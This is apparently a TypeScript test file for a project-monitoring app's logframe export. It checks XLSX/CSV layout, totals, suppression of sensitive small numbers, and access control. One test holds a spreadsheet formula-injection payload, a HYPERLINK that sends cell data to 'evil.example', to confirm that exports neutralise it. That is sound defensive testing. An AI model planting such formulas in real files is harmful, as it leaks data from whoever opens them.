import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { useApi, Role } from '../support/api.js';
import { addIndicator, addNode, makeLogframeProject, makeOrganisation } from '../support/factories.js';
import { approveReported } from '../support/reporting.js';

const api = useApi();
let ctx: Awaited<ReturnType<typeof makeLogframeProject>>;

beforeAll(async () => {
  ctx = await makeLogframeProject(api);
  const impact = await addNode(api, ctx.project.id, { statement: 'Trafficking networks are disrupted', assumptions: 'Courts keep working' });
  const outcome = await addNode(api, ctx.project.id, { parentId: impact.id, statement: 'Prosecutions, "with quotes", increase' });
  const trained = await addIndicator(api, outcome.id, { title: 'Prosecutors trained', meansOfVerification: 'Attendance lists' });
  const victims = await addIndicator(api, impact.id, { title: 'Victims identified', sensitive: true });
  await api.ok(`mutation($p: ID!, $v: [IndicatorValueInput!]!) { setIndicatorValues(projectId: $p, values: $v) { id } }`, {
    p: ctx.project.id,
    v: [
      { indicatorId: trained.id, periodId: ctx.periods[0].id, target: 10, actual: 12 },
      { indicatorId: trained.id, periodId: ctx.periods[1].id, target: 10, actual: 7 },
      { indicatorId: victims.id, periodId: ctx.periods[0].id, actual: 3 },
    ],
  });
  await approveReported(api, ctx.project.id);
});

const download = (cookie: string, format: string, id = ctx.project.id) => fetch(`${api.url}/exports/projects/${id}/logframe.${format}`, { headers: { cookie } });

describe('logframe export', () => {
  it('downloads an XLSX workbook that opens with the matrix and the figures', async () => {
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const res = await download(admin.cookie, 'xlsx');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="logframe-.*\.xlsx"/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
    const matrix = book.getWorksheet('Logframe')!;
    expect(matrix.getRow(1).values).toEqual([undefined, 'Code', 'Level', 'Results chain', 'Indicators', 'Means of verification', 'Assumptions', 'Responsible']);
    expect([matrix.getCell('A2').value, matrix.getCell('C2').value, matrix.getCell('F2').value]).toEqual(['1', 'Trafficking networks are disrupted', 'Courts keep working']);
    expect([matrix.getCell('A3').value, matrix.getCell('C3').value]).toEqual(['1.1', 'Prosecutions, "with quotes", increase']);
    const sheet = book.getWorksheet('Indicators')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const col = (name: string) => header.indexOf(name) + 1;
    // In reading order: the impact's indicator (1) before the outcome's (1.1), whatever order they were added in.
    expect([2, 3].map((r) => (sheet.getRow(r).values as unknown[])[col('Indicator')])).toEqual(['Victims identified', 'Prosecutors trained']);
    const trained = sheet.getRow(3).values as unknown[];
    // Actuals 12 + 7 = 19 against targets 10 + 10 = 20.
    expect(trained[col('Cumulative actual')]).toBe(19);
    expect(trained[col("End target")]).toBe(20);
    expect(trained[col(`${ctx.periods[1].label} actual`)]).toBe(7);
  });

  it('exports CSV in long format, quoting text, with small sensitive numbers suppressed for viewers', async () => {
    const viewer = await api.signedIn([{ role: Role.VIEWER }]);
    const text = await (await download(viewer.cookie, 'csv')).text();
    const lines = text.trim().split('\r\n');
    expect(lines[0]).toBe('code,level,result,indicator,period,period_start,period_end,dimension,category,target,actual,comment');
    expect(lines).toContain(`1.1,outcome,"Prosecutions, ""with quotes"", increase",Prosecutors trained,${ctx.periods[0].label},${ctx.periods[0].startDate},${ctx.periods[0].endDate},,,10,12,`);
    expect(lines).toContain(`1,impact,Trafficking networks are disrupted,Victims identified,${ctx.periods[0].label},${ctx.periods[0].startDate},${ctx.periods[0].endDate},,,,<5,`);
  });

  it('answers 401 without credentials and 404 for a project outside the caller’s scope', async () => {
    expect((await download('', 'xlsx')).status).toBe(401);
    const donor = await api.signedIn([{ role: Role.DONOR }], { organisationId: (await api.ok(`mutation { createOrganisation(input: { name: "Far donor", kind: DONOR }) { id } }`)).createOrganisation.id });
    const res = await download(donor.cookie, 'xlsx');
    expect(res.status).toBe(404);
    expect((await res.json()).errors[0].extensions.code).toBe('NOT_FOUND');
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    expect((await download(admin.cookie, 'pdf')).status).toBe(404);
  });

  it('shows the same end target as the API: an AVERAGE indicator ends on its last target', async () => {
    const { project, periods } = await makeLogframeProject(api);
    const node = await addNode(api, project.id, { statement: 'Legal aid is available' });
    const ind = await addIndicator(api, node.id, { title: 'Share of cases with legal aid', measure: '2', aggregation: 'AVERAGE' });
    await api.ok(`mutation($p: ID!, $v: [IndicatorValueInput!]!) { setIndicatorValues(projectId: $p, values: $v) { id } }`, {
      p: project.id,
      v: [40, 50, 65, 80].map((target, i) => ({ indicatorId: ind.id, periodId: periods[i].id, target })),
    });
    const viaApi = await api.ok(`query($p: ID!) { logframe(projectId: $p) { nodes { indicators { progress { endTarget } } } } }`, { p: project.id });
    expect(viaApi.logframe.nodes[0].indicators[0].progress.endTarget).toBe(80); // not the mean, 58.75
    const admin = await api.signedIn([{ role: Role.ADMIN }]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await (await download(admin.cookie, 'xlsx', project.id)).arrayBuffer()) as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('Indicators')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect((sheet.getRow(2).values as unknown[])[header.indexOf('End target') + 1]).toBe(80);
    expect(book.getWorksheet('Logframe')!.getCell('D2').value).toContain('target 80,');
  });

  it('neutralises text a spreadsheet would run as a formula, in CSV and XLSX, and keeps numbers as numbers', async () => {
    const { project, periods } = await makeLogframeProject(api);
    const ngo = await makeOrganisation(api, { name: 'Reporting NGO', kind: 'NGO' });
    const donorOrg = await makeOrganisation(api, { name: 'Reading donor', kind: 'DONOR' });
    await api.ok(`mutation($i: ParticipationInput!) { addParticipation(input: $i) { id } }`, { i: { organisationId: ngo.id, role: '4', projectId: project.id } });
    await api.ok(`mutation($i: ParticipationInput!) { addParticipation(input: $i) { id } }`, { i: { organisationId: donorOrg.id, role: '1', projectId: project.id } });
    const node = await addNode(api, project.id, { statement: '-1 case backlog, +10 % courts', responsibleOrganisationId: ngo.id });
    const count = await addIndicator(api, node.id, { title: '@count of cases', baselineValue: -5 });
    const law = await addIndicator(api, node.id, { title: 'Law adopted', measure: '5' });
    await api.ok(`mutation($p: ID!, $v: [IndicatorValueInput!]!) { setIndicatorValues(projectId: $p, values: $v) { id } }`, { p: project.id, v: [{ indicatorId: count.id, periodId: periods[0].id, target: -5 }] });
    const attack = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const partner = await api.signedIn([{ role: Role.PARTNER_REPORTER, projectId: project.id }], { organisationId: ngo.id });
    await partner.ok(`mutation($p: ID!, $v: [IndicatorValueInput!]!) { setIndicatorValues(projectId: $p, values: $v) { id } }`, {
      p: project.id,
      v: [
        { indicatorId: count.id, periodId: periods[0].id, actual: 3, comment: attack },
        { indicatorId: law.id, periodId: periods[0].id, actualText: attack, comment: '\tTab first' },
        { indicatorId: law.id, periodId: periods[1].id, actualText: '+1 reading', comment: '\rCarriage return first' },
      ],
    });
    await approveReported(api, project.id);
    const donor = await api.signedIn([{ role: Role.DONOR }], { organisationId: donorOrg.id });

    const rows = parseCsv(await (await download(donor.cookie, 'csv', project.id)).text());
    const cellsOf = (indicator: string, period: string) => rows.find((r) => r[3] === indicator.replace(/^[=+\-@]/, "'$&") && r[4] === period)!;
    expect(cellsOf('@count of cases', periods[0].label)).toEqual(["1", 'impact', "'-1 case backlog, +10 % courts", "'@count of cases", periods[0].label, periods[0].startDate, periods[0].endDate, '', '', '-5', '3', `'${attack}`]);
    expect(cellsOf('Law adopted', periods[0].label).slice(10)).toEqual([`'${attack}`, "'\tTab first"]);
    expect(cellsOf('Law adopted', periods[1].label).slice(10)).toEqual(["'+1 reading", "'\rCarriage return first"]);
    // Only the apostrophe-prefixed text starts with a formula character; the number -5 stays a number.
    const risky = rows.slice(1).flat().filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(risky).toEqual(['-5']);

    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await (await download(donor.cookie, 'xlsx', project.id)).arrayBuffer()) as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('Indicators')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const row = (title: string) => sheet.getRow([2, 3].find((r) => sheet.getRow(r).getCell(header.indexOf('Indicator') + 1).value === title)!);
    const col = (name: string) => header.indexOf(name) + 1;
    expect(row("'@count of cases").getCell(col('Baseline')).value).toBe(-5);
    expect(row("'@count of cases").getCell(col(`${periods[0].label} target`)).value).toBe(-5);
    expect(row('Law adopted').getCell(col(`${periods[0].label} actual`)).value).toBe(`'${attack}`);
    expect(row('Law adopted').getCell(col(`${periods[1].label} actual`)).value).toBe("'+1 reading");
    expect(book.getWorksheet('Logframe')!.getCell('C2').value).toBe("'-1 case backlog, +10 % courts");
    for (const ws of book.worksheets) {
      ws.eachRow((r) =>
        r.eachCell((c) => {
          expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof c.value === 'string') expect(c.value).not.toMatch(/^[=+\-@\t\r]/);
        }),
      );
    }
  });
});

/** RFC 4180: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(field), (field = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += ch;
  }
  return rows;
}
